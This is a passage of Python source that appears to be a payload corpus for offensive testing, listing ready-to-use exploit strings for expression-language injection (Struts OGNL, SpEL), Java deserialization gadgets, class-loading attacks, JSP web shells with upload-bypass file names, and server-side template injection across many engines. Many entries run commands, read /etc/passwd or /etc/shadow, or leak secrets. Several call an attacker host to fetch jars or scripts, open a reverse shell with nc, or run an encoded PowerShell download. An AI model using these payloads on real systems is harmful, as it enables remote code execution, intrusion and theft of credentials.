# expression-language: OGNL (Struts2, Confluence), SpEL (Spring), MVEL, JEXL (Nexus), JSP/JSF EL, commons-text
EXPRESSION: list[Entry] = [
    # Struts2 S2-045 (vulhub lab): OGNL in Content-Type
    ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
     "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
     "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
     "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
     "(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd})."
     "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
     "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),"
     "@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}", *CT),
    # Confluence CVE-2022-26134 (TryHackMe room): OGNL in the URI path
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id')."
     "getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse()."
     "setHeader('X-Cmd-Response',#a))}", "path", "rs-path"),
    # older Struts2 (S2-016 redirect:, S2-005 with \u0023 escapes for the '#' filter), the first OGNL probe
    "%{7*191}",
    "redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start(),#b=#a.getInputStream(),"
    "#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),"
    "#m=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#m.getWriter().println(#e),"
    "#m.getWriter().flush(),#m.getWriter().close()}",
    "('\\u0023context[\\'xwork.MethodAccessor.denyMethodExecution\\']\\u003dfalse')(a)(b)",
    "(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('touch /tmp/s2'))",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime()"
    ".exec('id'))}",
    # SpEL: HackTheBox "Inject" (Spring Cloud Function routing header)
    ("T(java.lang.Runtime).getRuntime().exec(\"curl 10.10.14.7/s.sh -o /tmp/s.sh\")",
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    # HackTheBox "RedPanda": the search bans $ and some words, *{} and Character-built strings get through
    "*{T(java.lang.Runtime).getRuntime().exec('cat /home/woodenk/user.txt')}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character)"
    ".toString(105).concat(T(java.lang.Character).toString(100))).getInputStream())}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${T(java.lang.System).getenv()}",
    "#{new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
    # MVEL (Drools/JBoss rule editors) and JEXL (Nexus Repository CVE-2020-10199)
    "@{java.lang.Runtime.getRuntime().exec('id')}",
    "$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nexus')}",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('id')",
    # JSP EL and JSF EL (double evaluation in the lab's Spring tags)
    "${applicationScope}",
    "${pageContext.request.getSession().setAttribute(\"admin\",true)}",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(\"\".getClass()"
    ".forName(\"java.lang.Runtime\")).exec(\"id\")}",
    "#{facesContext.externalContext.redirect('http://10.10.14.7/')}",
    # Apache Commons Text (Text4Shell, CVE-2022-42889) interpolation
    "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/text4shell')}",
    "${url:UTF-8:http://10.10.14.7/}",
]

# polymorphic-deserialization: XMLDecoder (WebLogic), XStream, Fastjson and Jackson turning a document into objects
POLYMORPHIC: list[Entry] = [
    # XMLDecoder: WebLogic wls-wsat CVE-2017-10271 (vulhub), the bare decoder lab
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8.0\" "
     "class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" "
     "length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string>"
     "</void><void index=\"2\"><string>" + REVSHELL.replace("&", "&amp;").replace(">", "&gt;") + "</string>"
     "</void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/>"
     "</soapenv:Envelope>", *XD),
    ("<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
     "<array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array>"
     "<void method=\"start\"/></object></java>", *XD),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\">"
     "<string>touch /tmp/xmldecoder</string></void></object></java>", *XD),
    # XStream: sorted-set / dynamic-proxy (CVE-2013-7285) and the ImageIO filter chain of the 1.4.x advisories
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>", *XD),
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value "
     "class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource "
     "class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto."
     "CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi."
     "FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$"
     "EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></next>"
     "</iter><filter class=\"javax.imageio.ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder"
     "</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class=\"string\">foo"
     "</next></serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/>"
     "<ibuffer></ibuffer></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString>"
     "<string>x</string></entry></map>", *XD),
    ("<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
     "<default><size>2</size><comparator class=\"org.apache.commons.beanutils.BeanComparator\"><property>"
     "outputProperties</property></comparator></default></java.util.PriorityQueue></java.util.PriorityQueue>",
     *XD),
    # Fastjson 1.2.24 (vulhub), then the 1.2.41/42/43/47 blacklist bypasses the lab's newer version needs
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://10.10.14.7:1099/Exploit\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://10.10.14.7:1389/a\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\",\"dataSourceName\":\"ldap://10.10.14.7:1389/a\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"ldap://10.10.14.7:1389/a\","
     "\"autoCommit\":true}", *JB),
    ("{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
     "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://10.10.14.7:1389/Exploit\","
     "\"autoCommit\":true}}", *JB),
    ("{\"\\u0040\\u0074\\u0079\\u0070\\u0065\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":"
     "\"ldap://10.10.14.7:1389/a\",\"autoCommit\":true}", *JB),
    ("{\"@type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":"
     "{\"data_source\":\"ldap://10.10.14.7:1389/a\"}}", *JB),
    ("{\"@type\":\"java.net.Inet4Address\",\"val\":\"fastjson.c0ffee.oastify.com\"}", *JB),
    # Jackson default typing: JdbcRowSetImpl, logback + H2 (CVE-2019-12384), Spring XML context, @class
    ("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://10.10.14.7:1389/Exploit\","
     "\"autoCommit\":true}]", *JB),
    ("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;"
     "INIT=RUNSCRIPT FROM 'http://10.10.14.7/inject.sql'\"}]", *JB),
    ("[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://10.10.14.7/spel.xml\"]",
     *JB),
    ("{\"id\":1,\"obj\":{\"@class\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":"
     "\"ldap://10.10.14.7:1389/a\"}}", *JB),
]

# class-loading: loading attacker classes into the JVM (URLClassLoader, defineClass, MLet, BCEL, Spring4Shell's
# classLoader property chain, Struts1/2 class.classLoader, SnakeYAML, Groovy @Grab)
CLASS_LOADING: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://10.10.14.7/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "Class.forName(\"Exploit\",true,new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
    "\"http://10.10.14.7:8000/\")}))",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(\"http://10.10.14.7/\")},null)"
    ".loadClass(\"Evil\").newInstance()",
    "java.lang.reflect.Method m=ClassLoader.class.getDeclaredMethod(\"defineClass\",byte[].class,int.class,"
    "int.class);m.setAccessible(true);",
    # SpEL memory-shell loader (the academy's Spring exercise, harder level)
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit',T(org.springframework.util."
    "Base64Utils).decodeFromString('yv66vgAAADQAHgoABgARCgASABMIABQKABIAFQcAFgcAFwEABjxpbml0Pg=='),"
    "new javax.management.loading.MLet(new java.net.URL[0],T(java.lang.Thread).currentThread()"
    ".getContextClassLoader())).newInstance()",
    # Spring4Shell (CVE-2022-22965, TryHackMe room): the access-log valve writes a JSP
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if(\"j\".equals("
     "request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("
     "\"cmd\")).getInputStream(); int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ "
     "out.println(new String(b)); } } %{suffix}i", *FB),
    ("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", *QS),
    ("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", *FB),
    ("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", *QS),
    ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", *FB),
    # Struts S2-020 / CVE-2014-0094 and the bracket form that passed the first fix
    ("class.classLoader.resources.dirContext.docBase=/", *QS),
    ("class['classLoader']['resources']['dirContext']['docBase']=/etc", *FB),
    ("Class.classLoader.jarPath=(#context[\"xwork.MethodAccessor.denyMethodExecution\"]=false)", *QS),
    # SnakeYAML (the Spring Boot actuator lab): ScriptEngineManager fetching a jar
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://10.10.14.7/yaml-payload.jar\"]]]]", *YB),
    # Fastjson + tomcat-dbcp: BCEL class loader with the class inline
    ("{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":"
     "\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"$$BCEL$$$l$8b$I$A$A$A$A$A$A"
     "$A$8dQ$cbN$c2$40$U$3d$D$85$b1$bc$c4$f7$5b$d4$85$3b$c3$c2$8d$8b$n$ae$c6$f8H$q$9a$b8$d2$9b$91$8c$a5$y"
     "$e1$a3$fc$ce$f9$b6$e7$d2$G$f6$Z$c0$b3$94$d5$z$91$ca$Y$T$Z$J$a7$d6$P$f0$a9$Z$I$A$A\"}", *JB),
    # Jenkins CVE-2019-1003000 (HackTheBox-style pipeline lab): @Grab pulls a jar at compile time
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://10.10.14.7/')\n"
    "@Grab(group='pwn', module='exp', version='1')\nimport Exploit;",
    "this.class.classLoader.addURL(new URL(\"http://10.10.14.7/x.jar\"))",
]

# jsp-upload: a JSP/JSPX web shell uploaded to Tomcat (bWAPP/Mutillidae upload labs, the Java port of DVWA's
# File Upload), file names that defeat each level's extension check, and the shells' own source
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% Process p=Runtime.getRuntime().exec(request.getParameter(\"cmd\"));"
             " BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream())); String l;"
             " while((l=r.readLine())!=null){ out.println(l); } %>")
JSP_UPLOAD: list[Entry] = [
    ("shell.jsp", *UP),
    ("cmd.jspx", *UP),
    ("shell.JSP", *UP),
    ("shell.jSp", *UP),
    ("shell.jsp.", *UP),
    ("shell.jsp%00.jpg", *UP),
    ("shell.jsp;.png", *UP),
    ("shell.jsp::$DATA", *UP),
    ("../webapps/ROOT/cmd.jsp", *UP),
    ("avatar.png.jsp", *UP),
    ("shell.war", *UP),
    JSP_SHELL,
    "<%=Runtime.getRuntime().exec(request.getParameter(\"i\"))%>",
    "<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()); %>",
    # the level that bans "<%": the JSPX (XML) form of the same shell
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>Runtime.getRuntime()"
    ".exec(request.getParameter(\"cmd\"));</jsp:scriptlet></jsp:root>",
    "<% if(request.getParameter(\"f\")!=null)(new java.io.FileOutputStream(application.getRealPath(\"/\")"
    "+request.getParameter(\"f\"))).write(request.getParameter(\"t\").getBytes()); %>",
    "<%! class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super."
    "defineClass(b,0,b.length);}}%><%if(request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";"
    "session.putValue(\"u\",k);}%>",
]

# ----------------------------------------------------------------------------------------------------------------
# ssti: one sub-family per template engine
# jinja2 (Flask): the academy's SSTI labs, HackTheBox "Doctor", TryHackMe SSTI rooms
JINJA2: list[Entry] = [
    "{{7*7}}",
    "{{config}}",
    "{{config.items()}}",
    "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{cycler.__init__.__globals__.os.popen('cat flag.txt').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{{url_for.__globals__.os.environ}}",
    "{{get_flashed_messages.__globals__['current_app'].config['SECRET_KEY']}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{x()._module.__builtins__['__import__']('os').popen('" + REVSHELL + "').read()}}{% endif %}{% endfor %}",
    # harder level: '.', '_' and '[]' blacklisted, attr() with \x5f escapes and request.args carry them
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
    "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
    "|attr('popen')('id')|attr('read')()}}",
    "{{request|attr(request.args.c)|attr(request.args.g)}}",
    # braces '{{' banned: the statement form prints instead
    "{%print(lipsum.__globals__.os.popen('ls').read())%}",
]

# twig (Symfony, Grav, Craft CMS labs)
TWIG: list[Entry] = [
    "{{7*'7'}}",
    "{{_self}}",
    "{{dump(app)}}",
    "{{app.request.server.all|join(',')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "{{['id',1]|sort('system')|join}}",
    "{{[0]|reduce('system','whoami')}}",
    "{{['id']|map('passthru')}}",
    "{{{'<?php system($_GET[0]);':'/var/www/html/s.php'}|map('file_put_contents')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
]

# freemarker (Java): the academy's "SSTI using documentation" and "... in a sandboxed environment"
FREEMARKER: list[Entry] = [
    "${7*7}",
    "#{7*7}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"rm /home/carlos/morale.txt\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
    "\"id\").start()}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve("
    "'/home/carlos/my_password.txt').toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign cl=article.class.protectionDomain.classLoader><#assign owc=cl.loadClass(\"freemarker.template."
    "ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)><#assign ec=cl.loadClass("
    "\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
]

# velocity (Apache Solr CVE-2019-17558 on vulhub, Confluence widget connector CVE-2019-3396)
VELOCITY: list[Entry] = [
    "#set($x=7*7)$x",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
    ".invoke(null,null).exec(\"id\")",
    "#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName("
    "'java.lang.Character')) #set($str=$x.class.forName('java.lang.String')) #set($ex=$rt.getRuntime()"
    ".exec('id')) $ex.waitFor() #set($out=$ex.getInputStream()) #foreach( $i in [1..$out.available()])"
    "$str.valueOf($chr.toChars($out.read()))#end",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($s=\"\")#set($r=$s.getClass().forName(\"java.lang.Runtime\").getRuntime())$r.exec(\"touch /tmp/v\")",
    "$request.getClass().getClassLoader()",
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()",
    ("{\"contentId\":\"786457\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":"
     "\"https://www.viddler.com/v/23464dc5\",\"width\":\"1000\",\"height\":\"1000\",\"_template\":"
     "\"file:///etc/passwd\"}}}", *JB),
    ("{\"contentId\":\"786457\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":"
     "\"https://www.viddler.com/v/23464dc5\",\"width\":\"1000\",\"height\":\"1000\",\"_template\":"
     "\"ftp://10.10.14.7/cmd.vm\",\"cmd\":\"id\"}}}", *JB),
]

# thymeleaf (Spring view-name manipulation labs)
THYMELEAF: list[Entry] = [
    "[[${7*7}]]",
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    # 3.0.12 blocks "T(": a space after T passes the check
    "__${T (java.lang.Runtime).getRuntime().exec(\"touch /tmp/thymeleaf\")}__::.x",
    "[(${T(java.lang.Runtime).getRuntime().exec('id')})]",
    "[[${T(java.lang.System).getenv()}]]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"id\")}",
]

# erb (Ruby): the academy's "Basic server-side template injection", HackTheBox "Neonify"
ERB: list[Entry] = [
    "<%= 7*7 %>",
    "<%= system(\"rm /home/carlos/morale.txt\") %>",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    # Neonify: the regex checks one line only, the template sits on the next
    "neon\n<%= File.open('flag.txt').read %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('cat /etc/shadow') %>",
    "<%= %x(cat /flag) %>",
]

# smarty (PHP)
SMARTY: list[Entry] = [
    "{$smarty.version}",
    "{php}echo `id`;{/php}",
    "{system('id')}",
    "{if system('cat /etc/passwd')}{/if}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
    "self::clearConfig())}",
    "{fetch file='/etc/passwd'}",
    "{include file='file:/etc/passwd'}",
    "{math equation=\"7*7\"}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\"id\")}')}",
]

# handlebars (Node): HackTheBox "Bike"
HANDLEBARS: list[Entry] = [
    "{{this}}",
    "{{#each this}}{{@key}}={{this}} {{/each}}",
    "{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n      {{this.pop}}\n"
    "      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n"
    "      {{#with string.split as |codelist|}}\n        {{this.pop}}\n"
    "        {{this.push \"return process.mainModule.require('child_process').execSync('whoami');\"}}\n"
    "        {{this.pop}}\n        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n"
    "            {{this}}\n          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n"
    "  {{/with}}\n{{/with}}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
    "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "
    "\"return require('child_process').execSync('cat /root/flag.txt');\"}}{{this.pop}}{{#each conslist}}"
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "{{#with this as |obj|}}{{#with (obj.constructor.constructor \"return process.env\") as |f|}}{{f}}"
    "{{/with}}{{/with}}",
    "{{lookup (lookup this 'constructor') 'name'}}",
    "{{constructor.constructor}}",
    "{{#with \"constructor\" as |k|}}{{lookup (lookup this k) k}}{{/with}}",
    "{{#with (lookup this \"constructor\")}}{{#with (lookup this \"constructor\")}}{{this \"return "
    "process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}",
]

# pug (Node): OWASP Juice Shop "SSTi" (the username is rendered), HackTheBox Node boxes
PUG: list[Entry] = [
    "p #{7*7}",
    "#{global.process.mainModule.require('child_process').exec('wget -O malware https://10.10.14.7/juicy_malware')}",
    "#{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout}",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.exec('id | nc 10.10.14.7 80')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('touch /tmp/pwned.txt')}()}",
    "= global.process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "!{7*7}",
    "#{constructor.constructor('return process')().mainModule.require('child_process').execSync('whoami')}",
]

# mako (Python)
MAKO: list[Entry] = [
    "${7*'7'}",
    "<%\nimport os\nx=os.popen('id').read()\n%>\n${x}",
    "${self.module.cache.util.os.system('id')}",
    "${self.template.module.runtime.util.os.popen('id').read()}",
    "<%! import os %>${os.popen('cat /etc/passwd').read()}",
    "<% import subprocess %>${subprocess.check_output(['id'])}",
    "${open('/etc/passwd').read()}",
    "${self.module.runtime.util.os.system('touch /tmp/mako')}",
    "${__import__('os').popen('whoami').read()}",
]

# tornado (Python): the academy's "Basic SSTI (code context)" (blog-post-author-display)
TORNADO: list[Entry] = [
    "user.name}}{{7*7",
    "user.name}}{% import os %}{{os.system('rm /home/carlos/morale.txt')",
    "{% import os %}{{os.popen('id').read()}}",
    "{{__import__('os').system('id')}}",
    "{% import subprocess %}{{subprocess.check_output('id',shell=True)}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').popen('id').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
]

# nunjucks (Node)
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('tail /etc/passwd')"
    "\")()}}",
    "{{cycler.constructor('return process.env')()}}",
    "{{ 7*7 }}",
    "{{ range.constructor('return process.env')() | dump }}",
    "{{joiner.constructor(\"return process.mainModule.constructor._load('child_process').execSync('ls')\")()}}",
    "{% set x = range.constructor('return this')() %}{{x.process.version}}",
    "{{''.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')}}",
    "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('" + REVSHELL
    + "')\")() }}",
]

# ejs (Node): CVE-2022-29078 settings[view options] pollution, the render-with-user-data labs
EJS: list[Entry] = [
    "<%- 7*7 %>",
    "<%= process.mainModule.require('child_process').execSync('id') %>",
    "<%- global.process.mainModule.require('child_process').execSync('cat /flag.txt') %>",
    "<% require('child_process').exec('bash -c \"" + REVSHELL + "\"') %>",
    "<%- include('/etc/passwd') %>",
    "<%= global.process.mainModule.constructor._load('fs').readFileSync('/etc/passwd') %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
     ".execSync('touch /tmp/pwned');s", *QS),
    ("settings[view options][client]=true&settings[view options][escapeFunction]=1;return global.process"
     ".mainModule.constructor._load('child_process').execSync('id');", *FB),
    ("{\"settings\":{\"view options\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process')"
     ".execSync('id');s\"}}}", *JB),
]

# pebble (Java)
PEBBLE: list[Entry] = [
    "{{ 7 * 7 }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/pebble') }}",
    "{{ request.getClass().getClassLoader() }}",
    "{% set rt = 'a'.getClass().forName('java.lang.Runtime') %}{{ rt.getMethods() }}",
    "{{ ''.class.forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('nc 10.10.14.7 4444 -e /bin/sh') }}",
    "{{ 'a'.getClass().getProtectionDomain().getCodeSource().getLocation() }}",
]

# razor (ASP.NET)
RAZOR: list[Entry] = [
    "@(7*7)",
    "@(1+2)",
    "@System.Environment.MachineName",
    "@{ var x = System.IO.File.ReadAllText(@\"C:\\inetpub\\wwwroot\\web.config\"); }@x",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")",
    "@{ System.Diagnostics.Process.Start(\"cmd.exe\", \"/c powershell -enc " + base64.b64encode(
        "IEX(New-Object Net.WebClient).DownloadString('http://10.10.14.7/r.ps1')".encode("utf-16-le")).decode()
    + "\"); }",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")",
    "@{var p=new System.Diagnostics.Process();p.StartInfo.FileName=\"cmd.exe\";p.StartInfo.Arguments=\"/c whoami\";"
    "p.StartInfo.RedirectStandardOutput=true;p.Start();}@p.StandardOutput.ReadToEnd()",
    "@Html.Raw(System.IO.File.ReadAllText(\"web.config\"))",
]

# go-templates (text/template, html/template, Hugo, Echo)
GO_TEMPLATES: list[Entry] = [
    "{{.}}",
    "{{printf \"%#v\" .}}",
    "{{ .File \"/etc/passwd\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadFile \"/flag.txt\" }}",
    "{{define \"T1\"}}<script>alert(1)</script>{{end}} {{template \"T1\"}}",
    "{{ .System \"id\" }}",
    "{{ os.Getenv \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ .Password }}",
]

# liquid (Shopify, Jekyll, LiquidJS)
LIQUID: list[Entry] = [
    "{{7|times:7}}",
    "{% assign x = 7 | times: 7 %}{{x}}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../../etc/passwd' %}",
    "{% render '../../config/secrets.yml' %}",
    "{% for i in (1..100000000) %}{{i}}{% endfor %}",
    "{{ page | inspect }}",
    "{% include_relative ../../../../etc/passwd %}",
    "{{ site | jsonify }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
